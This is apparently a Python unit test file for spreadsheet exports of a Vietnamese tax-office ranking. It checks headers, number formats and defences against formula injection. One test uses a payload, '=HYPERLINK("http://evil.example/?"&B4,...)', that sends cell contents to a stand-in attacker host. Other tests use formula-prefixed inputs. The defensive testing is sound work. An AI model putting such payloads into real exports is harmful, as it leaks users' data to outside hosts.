"""The ranking exports open as a spreadsheet user expects: Vietnamese headers, numbers as numbers,
text that can never run as a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from decimal import Decimal

import openpyxl

from services.reporting.domain.briefing import GroupLabel
from services.reporting.exports import ranking_csv, ranking_xlsx
from services.reporting.exports.labels import count_vi, number_vi, period_vi, plain_number, ratio_vi, signed_vi
from tests.unit.reporting.exports_sample import GROUPS, ranking_rows

HEADERS = [
    "Mã đơn vị",
    "Tên đơn vị",
    "Tổng điểm",
    "Xếp loại",
    "Hạng",
    "Thay đổi hạng",
    "G1. Công khai, minh bạch (tối đa 18)",
    "G2. Tiến độ, kết quả giải quyết (tối đa 20)",
    "G3. Số hóa hồ sơ (tối đa 22)",
    "G4. Dịch vụ công trực tuyến (tối đa 22)",
    "G5. Mức độ hài lòng (tối đa 18)",
    "Số hồ sơ",
    "Tạm tính",
]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_is_utf8_with_bom_and_crlf_for_excel() -> None:
    data = ranking_csv(ranking_rows(), groups=GROUPS)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data[3:].decode("utf-8")
    assert text.count("\r\n") == len(ranking_rows()) + 1
    assert "\n" not in text.replace("\r\n", "")
    assert read_csv(data)[0] == HEADERS


def test_csv_numbers_are_plain_numbers_and_words_vietnamese() -> None:
    rows = read_csv(ranking_csv(ranking_rows(), groups=GROUPS))
    by_code = {r[0]: dict(zip(HEADERS, r, strict=True)) for r in rows[1:]}
    hanoi = by_code["P01"]
    assert hanoi["Tên đơn vị"] == "Thuế Thành phố Hà Nội"
    assert hanoi["Tổng điểm"] == "93.45"
    assert Decimal(hanoi["Tổng điểm"]) == Decimal("93.45")
    assert hanoi["Xếp loại"] == "Xuất sắc"
    assert hanoi["Hạng"] == "1"
    assert hanoi["Thay đổi hạng"] == "2"
    assert hanoi["Số hồ sơ"] == "12840"  # no thousands separator
    assert hanoi["G1. Công khai, minh bạch (tối đa 18)"] == "16.82"
    assert hanoi["Tạm tính"] == "Không"
    assert by_code["P02"]["Thay đổi hạng"] == "-1"  # a negative number stays a number
    assert by_code["P04"]["Thay đổi hạng"] == ""  # new in the ranking: no change to show
    assert {r["Xếp loại"] for r in by_code.values()} == {"Xuất sắc", "Tốt", "Khá", "Trung bình", "Yếu"}
    provisional = by_code["P34"]
    assert provisional["Hạng"] == "" and provisional["Tạm tính"] == "Có"
    assert provisional["Tổng điểm"] == "100.00"


def test_csv_neutralises_formula_injection_and_quotes_commas() -> None:
    rows = ranking_rows()
    rows[0] = replace(rows[0], unit_name="Thuế tỉnh Đắk Lắk, Phòng 1")
    rows[1] = replace(rows[1], unit_name="+1 Thuế", unit_code="@P02")
    rows[2] = replace(rows[2], unit_name="-2+3")
    data = ranking_csv(rows, groups=GROUPS)
    assert '"Thuế tỉnh Đắk Lắk, Phòng 1"' in data.decode("utf-8-sig")
    parsed = {r[0]: r for r in read_csv(data)[1:]}
    assert parsed["P01"][1] == "Thuế tỉnh Đắk Lắk, Phòng 1"
    assert parsed["'@P02"][1] == "'+1 Thuế"
    assert parsed["P03"][1] == "'-2+3"
    assert parsed["P34"][1].startswith("'=HYPERLINK(")


def test_csv_of_no_rows_is_the_header_only() -> None:
    assert read_csv(ranking_csv([], groups=GROUPS)) == [HEADERS]


def test_group_without_methodology_names_is_headed_by_its_id() -> None:
    bare = [GroupLabel(g.group_id, g.group_id, g.group_id, Decimal(0)) for g in GROUPS]
    assert read_csv(ranking_csv(ranking_rows(), groups=bare))[0][6:11] == ["G1", "G2", "G3", "G4", "G5"]


def test_xlsx_has_title_headers_numbers_frozen_header_and_filter() -> None:
    data = ranking_xlsx(ranking_rows(), groups=GROUPS, title="Xếp hạng Thuế tỉnh, thành phố — tháng 10/2026")
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    assert sheet is not None
    assert sheet.title == "Xếp hạng"
    assert sheet["A1"].value == "Xếp hạng Thuế tỉnh, thành phố — tháng 10/2026"
    assert "không được xếp hạng" in str(sheet["A2"].value)
    assert [c.value for c in sheet[3]] == HEADERS
    assert sheet.freeze_panes == "C4"
    assert sheet.auto_filter.ref == f"A3:M{3 + len(ranking_rows())}"
    hanoi = {h: c for h, c in zip(HEADERS, sheet[4], strict=True)}
    assert hanoi["Tên đơn vị"].value == "Thuế Thành phố Hà Nội"
    assert hanoi["Tổng điểm"].data_type == "n" and hanoi["Tổng điểm"].value == 93.45
    assert hanoi["Tổng điểm"].number_format == "0.00"
    assert hanoi["G5. Mức độ hài lòng (tối đa 18)"].value == 16.82
    assert hanoi["Hạng"].value == 1 and hanoi["Hạng"].data_type == "n"
    assert hanoi["Thay đổi hạng"].value == 2 and hanoi["Thay đổi hạng"].number_format == "+0;-0;0"
    assert hanoi["Số hồ sơ"].value == 12840 and hanoi["Số hồ sơ"].data_type == "n"
    assert hanoi["Xếp loại"].value == "Xuất sắc" and hanoi["Xếp loại"].fill.fgColor.rgb.endswith("C6EFCE")
    last = {h: c.value for h, c in zip(HEADERS, sheet[3 + len(ranking_rows())], strict=True)}
    assert last["Hạng"] is None and last["Tạm tính"] == "Có"
    assert sheet.column_dimensions["B"].width >= 40


def test_xlsx_never_writes_a_formula() -> None:
    data = ranking_xlsx(ranking_rows(), groups=GROUPS, title="=1+1")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert "<t>=1+1</t>" in sheet_xml and "<t>=HYPERLINK(" in sheet_xml


def test_a_group_named_like_a_formula_heads_its_column_as_text() -> None:
    """Group ids and names come from a methodology document an administrator writes: the column
    header made of them is text in both exports, like every other cell."""
    formula = '=HYPERLINK("http://evil.example/?"&B4,"G1")'
    groups = (GroupLabel(formula, formula, formula, Decimal(0)), *GROUPS[1:])
    assert read_csv(ranking_csv(ranking_rows(), groups=groups))[0][6] == "'" + formula
    data = ranking_xlsx(ranking_rows(), groups=groups, title="Xếp hạng")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None and sheet["G3"].value == formula and sheet["G3"].data_type == "s"


def test_labels_write_numbers_and_periods_the_vietnamese_way() -> None:
    assert number_vi(Decimal("12840.5")) == "12.840,50"
    assert number_vi(12840, 0) == "12.840"
    assert number_vi(None) == "—"
    assert count_vi(1187) == "1.187" and count_vi(4026.5) == "4.026,5" and count_vi(12.0) == "12"
    assert ratio_vi(Decimal("88.45"), 1187, 1342) == "88,45%"
    assert ratio_vi(Decimal("3.39"), 4023, 1187) == "3,39"  # 2.2: average working days
    assert ratio_vi(Decimal("100.00"), 1, 1) == "100,00%" and ratio_vi(None, None, None) == "—"
    assert signed_vi(Decimal("-6.2")) == "\u22126,20" and signed_vi(Decimal("3.45")) == "+3,45"
    assert plain_number(Decimal("1E+1")) == "10" and plain_number(Decimal("-0.00")) == "0"
    assert period_vi("2026-10") == "tháng 10/2026"
    assert period_vi("2026-Q3") == "quý III/2026"
    assert period_vi("2026") == "năm 2026"
    assert period_vi("2026-10-01..2026-10-15") == "từ ngày 01/10/2026 đến ngày 15/10/2026"
